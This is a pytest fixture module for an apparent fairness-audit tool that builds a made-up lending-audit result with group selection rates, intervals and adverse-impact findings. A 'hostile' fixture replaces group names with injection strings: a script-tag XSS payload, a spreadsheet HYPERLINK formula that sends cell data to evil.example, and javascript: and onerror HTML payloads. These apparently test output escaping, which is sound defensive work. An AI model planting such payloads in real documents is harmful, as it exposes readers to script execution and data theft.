"""A result as an audit makes it, with every kind of record that a report must be able to show.

The people and selections are made up; the intervals come from the textbook formulas below and are good
enough to look at. No test compares them with anything but themselves.
"""

import dataclasses
import itertools
import json
import math

import pytest

from fairaudit.result import (
    AttributeRecord,
    CurveRecord,
    Curves,
    CutoffRecord,
    FileRecord,
    Finding,
    InputRecord,
    IssueRecord,
    LedgerRecord,
    NotRun,
    PolicyRecord,
    RateRecord,
    Result,
    SchemaRecord,
    read_result,
)

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
MARKS = "a|b`c\nd **bold** [x](javascript:alert(1)) <img src=x onerror=alert(1)> @all"
HOSTILE = {"Asian": SCRIPT, "Hispanic": FORMULA, "Pacific Islander": MARKS}

MISSING = "(missing)"
CUTOFFS = (620.0, 660.0)
# Group: people, selected at 620, selected at 660, mean score.
RACE = {
    "White": (4821, 3905, 3278, 688.4),
    "Black": (1204, 742, 518, 641.7),
    "Hispanic": (986, 779, 650, 676.1),
    "Asian": (402, 311, 268, 683.0),
    "Pacific Islander": (12, 0, 0, 655.2),
    MISSING: (143, 104, 83, 671.9),
}
SEX = {"Male": (4102, 3321, 2690, 680.2), "Female": (3466, 2520, 2107, 672.8)}
Z = 1.959964


def _wilson(k, n):
    middle, spread = k / n + Z * Z / 2 / n, Z * math.sqrt(k / n * (1 - k / n) / n + Z * Z / 4 / n / n)
    return max(0.0, (middle - spread) / (1 + Z * Z / n)), min(1.0, (middle + spread) / (1 + Z * Z / n))


def _rate(metric, attribute, group, k, n, cutoff=None, **more):
    low, high = _wilson(k, n)
    levels = dict(zip(attribute.split(" × "), group.split(" × "), strict=True))
    return RateRecord(
        metric, attribute, group, levels, cutoff, float(k), float(n), k / n, low, high, "Wilson score", n, **more
    )


def _rates(attribute, groups):
    for group, (n, first, second, mean) in groups.items():
        for cutoff, k in zip(CUTOFFS, (first, second), strict=True):
            yield _rate("selection_rate", attribute, group, k, n, cutoff)
            yield _rate("adverse_rate", attribute, group, n - k, n, cutoff)
            good = _rate("true_positive_rate", attribute, group, k, n, cutoff)
            bounds = dataclasses.replace(
                good, num=None, den=None, value=None, low=0.31, high=0.97,
                method="worst-case bounds over unobserved outcomes",
                undefined=f"not identified: the outcome of {n - k:,} people ({n - k:,} of them declined) is unobserved",
            )  # fmt: skip
            yield bounds
            if k:
                yield _rate("positive_predictive_value", attribute, group, round(0.93 * k), k, cutoff)
            else:
                empty = dataclasses.replace(
                    good, metric="positive_predictive_value", num=0.0, den=0.0, value=None, low=None, high=None,
                    method=None, n=0, undefined="no selected person's outcome is observed",
                )  # fmt: skip
                yield empty
        yield _rate("bad_rate", attribute, group, round(0.07 * (first + 1)), first + 1)
        levels = dict(zip(attribute.split(" × "), group.split(" × "), strict=True))
        yield RateRecord(
            "mean_score", attribute, group, levels, None, None, None, mean, mean - 60 / math.sqrt(n),
            mean + 60 / math.sqrt(n), "normal, from the score's variance", n,
        )  # fmt: skip
        yield RateRecord(
            "area_under_curve", attribute, group, levels, None, None, None, None, None, None, None, n,
            f"not identified: the outcome of {n - first:,} people is unobserved",
        )  # fmt: skip
        for band, share in (("300 to 599", 0.24), ("600 to 699", 0.11), ("700 to 850", 0.03)):
            yield _rate("bad_rate_by_score_band", attribute, group, round(share * n / 3), max(n // 3, 1), band=band)


def _finding(metric, how, attribute, group, reference, groups, cutoff, family, rule=None, **more):
    place = CUTOFFS.index(cutoff) + 1
    n, k, m, j = groups[group][0], groups[group][place], groups[reference][0], groups[reference][place]
    value = {
        "adverse_impact_ratio": (k / n) / (j / m),
        "selection_rate_difference": k / n - j / m,
        "adverse_outcome_ratio": (1 - k / n) / (1 - j / m),
        "selection_odds_ratio": (k / (n - k)) / (j / (m - j)),
        "shortfall": n * j / m - k,
    }[metric]
    spread = math.sqrt((1 / max(k, 1) - 1 / n) + (1 / j - 1 / m))
    gap = Z * math.sqrt(k / n * (1 - k / n) / n + j / m * (1 - j / m) / m)
    if how in {"ratio", "odds_ratio"}:
        low, high = value * math.exp(-Z * spread), value * math.exp(Z * spread)
    else:
        scale = n if how == "shortfall" else 1
        low, high = value - gap * scale, value + gap * scale
    p = math.erfc(abs(k / n - j / m) / max(gap / Z, 1e-9) / math.sqrt(2))
    made = {
        "id": f"{rule or metric}/{attribute}/{group}/{cutoff:g}",
        "status": "info",
        "reason": "The policy sets no line here.",
        "line": None,
        "p_adjusted": min(1.0, 4 * p),
        "people_needed": None,
        "low": low,
        "high": high,
        "value": value,
        "p": p,
        **more,
    }
    made.setdefault(
        "sentence",
        f"{attribute}: {group} against {reference} at cut-off {cutoff:g}, {100 * k / n:.1f}% selected against "
        f"{100 * j / m:.1f}%: {metric.replace('_', ' ')} {value:.3f}. {made['reason']}",
    )
    return Finding(
        family=family, rule=rule, metric=metric, contrast=how, attribute=attribute, group=group,
        levels=dict(zip(attribute.split(" × "), group.split(" × "), strict=True)), reference=reference,
        cutoff=cutoff, method="score (Miettinen-Nurminen)", test="score", n=n, n_reference=m,
        minimum_detectable=0.94, sensitivity={"fisher": p, "chi_square": p}, **made,
    )  # fmt: skip


AIR, GAP, AOR = "adverse_impact_ratio", "selection_rate_difference", "adverse_outcome_ratio"
RULE = {"family": "primary", "rule": "adverse-impact-ratio", "line": 0.8}


def _triple(attribute, group, reference, groups, cutoff, **ruled):
    family = ruled.pop("family", "exploratory")
    rule = ruled.pop("rule", None)
    yield _finding(AIR, "ratio", attribute, group, reference, groups, cutoff, family, rule, **ruled)
    yield _finding(GAP, "difference", attribute, group, reference, groups, cutoff, "exploratory")
    # Nobody of the group is selected, and hardly anybody is declined elsewhere: no upper bound.
    more = {"high": None, "unbounded": "high"} if groups[group][1] == 0 else {}
    yield _finding(AOR, "ratio", attribute, group, reference, groups, cutoff, "exploratory", **more)


def _findings(crossed):
    yield from _triple(
        "race", "Black", "White", RACE, 620.0, **RULE, status="flag",
        reason="0.761 is past the line of 0.80, and more than chance (p < 0.0001).",
    )  # fmt: skip
    yield from _triple(
        "race", "Hispanic", "White", RACE, 620.0, **RULE, status="within_line",
        reason="0.975: the evidence excludes an effect past the line of 0.80.",
    )  # fmt: skip
    yield from _triple(
        "race", "Asian", "White", RACE, 620.0, **RULE, status="within_line",
        reason="0.955: the evidence excludes an effect past the line of 0.80. This is a real difference, smaller than "
        "the line (p = 0.044).",
    )  # fmt: skip
    yield from _triple(
        "race", "Pacific Islander", "White", RACE, 620.0, **RULE, status="insufficient", people_needed=44,
        reason="12 people; the policy asks for at least 30.",
    )  # fmt: skip
    yield from _triple(
        "race", MISSING, "White", RACE, 620.0, **RULE, status="info", p=None, p_adjusted=None,
        reason="Shown but not tested: this level is in no test family.",
    )  # fmt: skip
    yield from _triple(
        "sex", "Female", "Male", SEX, 620.0, **RULE, status="within_line",
        reason="0.898: the evidence excludes an effect past the line of 0.80. This is a real difference, smaller than "
        "the line (p < 0.0001).",
    )  # fmt: skip
    for attribute, groups, reference in (
        ("race", RACE, "White"),
        ("sex", SEX, "Male"),
        ("race × sex", crossed, "White × Male"),
    ):
        for group in groups:
            if group == reference:
                continue
            if attribute == "race × sex":
                flagged = group == "Black × Female"
                reason = "0.7996 is past the line of 0.80, and more than chance (p = 0.0031)."
                ruled = {
                    "rule": "adverse-impact-ratio",
                    "line": 0.8,
                    "status": "flag",
                    "reason": reason,
                    "value": 0.7996,
                }
                yield from _triple(attribute, group, reference, groups, 620.0, **(ruled if flagged else {}))
            else:
                yield from _triple(attribute, group, reference, groups, 660.0)
    yield _finding("shortfall", "shortfall", "race", "Black", "White", RACE, 620.0, "exploratory")
    yield _finding(
        "selection_odds_ratio", "odds_ratio", "race", "Pacific Islander", "White", RACE, 620.0, "exploratory",
        value=None, low=None, high=None, p=None, p_adjusted=None,
        undefined="nobody, or everybody, is selected in both", status="insufficient", reason="Undefined.",
    )  # fmt: skip
    smd = _finding(GAP, "standardized_difference", "race", "Black", "White", RACE, 620.0, "secondary")
    yield dataclasses.replace(
        smd, id="standardized-mean-difference/race/Black", metric="standardized_mean_difference", cutoff=None,
        rule="standardized-mean-difference", value=-0.61, low=-0.67, high=-0.55, line=-0.5, status="flag",
        reason="-0.610 is past the line of -0.50, and more than chance (p < 0.0001).", sensitivity={},
        sentence="race: Black against White, Standardized mean difference -0.610 (95% interval -0.670 to -0.550). "
        "-0.610 is past the line of -0.50, and more than chance (p < 0.0001).",
    )  # fmt: skip


def _curves():
    cutoffs = [float(value) for value in range(500, 760, 5)]
    records = []
    for group, (_, k, _, mean) in RACE.items():
        rate = [1 / (1 + math.exp((cutoff - mean) / 40)) for cutoff in cutoffs]
        white = [1 / (1 + math.exp((cutoff - RACE["White"][3]) / 40)) for cutoff in cutoffs]
        ratio = [None if not k else a / b for a, b in zip(rate, white, strict=True)]
        columns = {
            "selection_rate": rate,
            AIR: ratio,
            f"{AIR}_low": [None if v is None else 0.95 * v for v in ratio],
            f"{AIR}_high": [None if v is None else 1.05 * v for v in ratio],
        }
        records.append(CurveRecord("race", group, columns))
    return Curves(cutoffs, records)


def make_result():
    crossed = {
        f"{race} × {sex}": (n // 2, k // 2 - (9 if sex == "Female" and k else 0), j // 2, mean)
        for (race, (n, k, j, mean)), sex in itertools.product(RACE.items(), SEX)
    }
    people = sum(n for n, *_ in RACE.values())
    by_attribute = {"race": RACE, "sex": SEX, "race × sex": crossed}
    rates = [record for name, groups in by_attribute.items() for record in _rates(name, groups)]
    levels = {name: {group: row[0] for group, row in groups.items()} for name, groups in by_attribute.items()}
    return Result(
        schema_version="1.0",
        tool={"name": "fairaudit", "version": "0.1.0", "python": "3.11.9", "numpy": "2.1.0"},
        created=None,
        input=InputRecord(
            "loans.csv",
            "3f" * 32,
            [FileRecord("loans.csv", 482_113, "a7" * 32)],
            LedgerRecord(7603, people, {"score 'score' is infinite": 2, "score 'score' is missing": 33}),
        ),
        schema=SchemaRecord(
            roles={
                "score": "score",
                "higher_is": "better",
                "cutoffs": [620, 660],
                "outcome": "default",
                "bad": ["1"],
                "groups": ["race", "sex"],
                "reference": {"race": "White", "sex": "Male"},
            },
            people=people,
            decision_text="The score 'score' (higher is better) against a cut-off; favorable is being approved.",
            positive="a favorable decision, and a good outcome ('default' is not 1)",
            cutoffs=[
                CutoffRecord(620.0, "approved: score >= 620", 312, production=True),
                CutoffRecord(660.0, "approved: score >= 660", 1, production=False),
            ],
            attributes=[
                AttributeRecord("race", levels["race"], "White", "named"),
                AttributeRecord("race × sex", levels["race × sex"], "White × Male", "named", crossing=True),
                AttributeRecord("sex", levels["sex"], "Male", "named"),
            ],
            decision_counts={},
            outcome_counts={"good": 5431, "bad": 410, "declined": 1727},
            outcomes_complete=False,
        ),
        policy=PolicyRecord(
            "us-fair-lending",
            "1.0",
            "US fair-lending convention",
            "c4" * 32,
            "convention",
            "United States",
            "named",
            0.05,
            0.8,
            ["Gill, Hall, Montgomery and Schmidt (2020), https://github.com/h2oai/article-information-2019"],
            ["These lines are a convention of practice. No federal credit rule sets them."],
        ),
        seed=20_240_117,
        confidence=0.95,
        rates=rates,
        findings=list(_findings(crossed)),
        curves=_curves(),
        not_run=[
            NotRun(
                "Equal-opportunity difference at cut-off 620",
                "not identified: the outcome of 1,727 people is "
                "unobserved, so their part in the rate over all applicants is not known",
                "race",
            ),
            NotRun("AUC difference", "suppressed: too few people", "race × sex", "Pacific Islander × Female"),
        ],
        issues=[
            IssueRecord("score_missing", "33 people have no score.", 33, "score", [4, 17, 90], "set aside"),
            IssueRecord(
                "outcome_unobserved",
                "1,727 people have no observed outcome in 'default': declined.",
                1727,
                "default",
                [],
                "counted as unobserved",
            ),
        ],
        cube={},
    )


@pytest.fixture(scope="session")
def sample():
    return make_result()


@pytest.fixture(scope="session")
def hostile(sample):
    text = sample.to_json()
    for name, bad in HOSTILE.items():
        text = text.replace(name, json.dumps(bad)[1:-1])
    return read_result(text)
